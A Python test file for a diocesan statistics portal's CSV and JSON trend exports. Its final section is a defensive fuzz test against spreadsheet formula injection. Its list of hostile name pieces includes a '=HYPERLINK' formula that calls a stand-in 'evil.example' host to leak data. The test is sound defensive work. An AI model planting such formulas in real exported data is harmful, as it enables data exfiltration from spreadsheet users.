"""CSV and JSON downloads hold exactly what the chart shows, with units in the headers."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.statistics.derived import Column, DioceseRows, TrendTable, View, table_build
from portal.trends import exports
from tests.examples import examples
from tests.trends.conftest import catalog_series
from tests.trends.test_charts import figure_of

MANILA = "/trends/dmaml/"
# A comparison fetches in worker threads, which only see committed rows (the user's token).
in_threads = pytest.mark.django_db(transaction=True)


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_csv_of_one_diocese_matches_the_sandbox_series(signed_in_client, sandbox):
    # Kinshasa: its yearbook has no figures for 1960-1964.
    response = signed_in_client.get(
        "/trends/dkins/", {"metric": "catholics", "start": 1955, "end": 1970, "format": "csv"}
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="trends-dkins-catholics-raw-1955-1970.csv"'
    )
    header, *lines = read_csv(response)
    series = catalog_series("dkins", 1955, 1970)
    assert header == ["year", f"{series['diocese_name']} — Catholics (persons)"]
    assert lines == [
        [str(r["year"]), "" if r["catholics"] is None else str(r["catholics"])]
        for r in series["rows"]
    ]
    assert ["1960", ""] in lines  # a gap stays empty, never 0


@in_threads
def test_csv_of_a_comparison_in_a_derived_view_has_one_column_per_line(signed_in_client, sandbox):
    params = {"d": ["dmaml", "dmila"], "metric": ["baptisms", "parishes"], "view": "per_capita",
              "start": 2000, "end": 2005}  # fmt: skip
    response = signed_in_client.get("/trends/compare/", {**params, "format": "csv"})
    header, *lines = read_csv(response)
    assert header == [
        "year",
        "Archdiocese of Manila — Baptisms (baptisms per 1,000 Catholics)",
        "Archdiocese of Manila — Parishes (parishes per 100,000 Catholics)",
        "Archdiocese of Milan — Baptisms (baptisms per 1,000 Catholics)",
        "Archdiocese of Milan — Parishes (parishes per 100,000 Catholics)",
    ]
    assert [line[0] for line in lines] == [str(y) for y in range(2000, 2006)]
    milan = catalog_series("dmila", 2000, 2005)["rows"]
    expected = [
        "" if r["baptisms"] is None or not r["catholics"]
        else str(round(r["baptisms"] / r["catholics"] * 1000, 2))
        for r in milan
    ]  # fmt: skip
    assert [line[3] for line in lines] == expected
    assert response["Content-Disposition"] == (
        'attachment; filename="trends-dmaml-dmila-baptisms-parishes-per_capita-2000-2005.csv"'
    )


@in_threads
def test_json_export_holds_the_charted_numbers(signed_in_client, sandbox):
    params = {"d": ["dmaml", "dsjcr"], "metric": "total_priests", "view": "yoy", "start": 1990}
    page = figure_of(signed_in_client.get("/trends/compare/", params))
    response = signed_in_client.get("/trends/compare/", {**params, "format": "json"})
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].startswith('attachment; filename="trends-dmaml-dsjcr-')
    data = json.loads(response.content)
    assert data["view"] == "yoy"
    assert data["years"] == page["data"][0]["x"]
    assert [s["values"] for s in data["series"]] == [t["y"] for t in page["data"]]
    assert [s["source_code"] for s in data["series"]] == ["dmaml", "dsjcr"]
    assert data["series"][0]["unit"] == "% change on the previous year"
    assert data["title"] == page["layout"]["title"]["text"]
    assert data["missing"] == [] and data["stale"] is False


def test_the_page_links_downloads_of_the_same_state(signed_in_client, sandbox):
    html = signed_in_client.get(
        MANILA, {"metric": ["catholics", "parishes"], "view": "indexed", "start": 1980}
    ).content.decode()
    state = "metric=catholics&amp;metric=parishes&amp;start=1980&amp;view=indexed"
    assert f'href="?{state}&amp;format=csv"' in html
    assert f'href="?{state}&amp;format=json"' in html


def test_a_name_that_looks_like_a_formula_is_not_one_in_the_csv():
    column = Column(source_code="dxxxx", diocese_name="=HYPERLINK(1)", metric="parishes",
                    values=[1])  # fmt: skip
    table = TrendTable(view=View.RAW, metrics=["parishes"], years=[2000], columns=[column])
    header = next(csv.reader(io.StringIO(exports.csv_text(table))))
    assert header[1] == "'=HYPERLINK(1) — Parishes (parishes)"


# --- Hostile diocese names (upstream's text) in the CSV --------------------------------------

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs as a formula
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
HOSTILE_PIECES = ["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", ",", '"', "'", ";", "#", " ",
                  '=HYPERLINK("https://evil.example/?leak")', "\u2028", "é", "😀"]  # fmt: skip
HOSTILE_NAMES = st.lists(
    st.one_of(st.sampled_from(HOSTILE_PIECES), st.text(max_size=4)), min_size=1, max_size=8
).map("".join)


def restore(cell: str) -> str:
    """Undo the apostrophe: one off a cell whose leading apostrophes precede a formula start."""
    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(TRIGGERS) else cell


@settings(max_examples=examples(200), deadline=None)
@given(
    names=st.lists(HOSTILE_NAMES, min_size=1, max_size=3),
    view=st.sampled_from(list(View)),
    figures=st.lists(st.none() | st.integers(0, 10**7), min_size=1, max_size=12),
)
def test_csv_defuses_every_heading_and_keeps_one_row_a_year(names, view, figures):
    dioceses = [
        DioceseRows(
            source_code=f"d{index}", diocese_name=name,
            rows=[{"year": 2000 + i, "catholics": value, "baptisms": value,
                   "total_population": value} for i, value in enumerate(figures)],
        )
        for index, name in enumerate(names)
    ]  # fmt: skip
    table = table_build(dioceses, metrics=["catholics", "baptisms"], view=view)
    text = exports.csv_text(table)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + len(table.years)  # the header, one row a year: none split, none merged
    assert {len(row) for row in rows} == {1 + len(table.columns)}
    live = [cell for row in rows for cell in row
            if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)]  # fmt: skip
    assert live == []  # a negative change is a number; text never starts a formula
    headings = [exports.column_heading(table, i) for i in range(len(table.columns))]
    assert [restore(cell) for cell in rows[0][1:]] == headings
    for heading, column in zip(rows[0][1:], table.columns, strict=True):
        assert restore(heading).startswith(f"{column.diocese_name} — ")
    for (year, values), row in zip(table.rows, rows[1:], strict=True):
        assert row == [str(year), *("" if v is None else str(v) for v in values)]
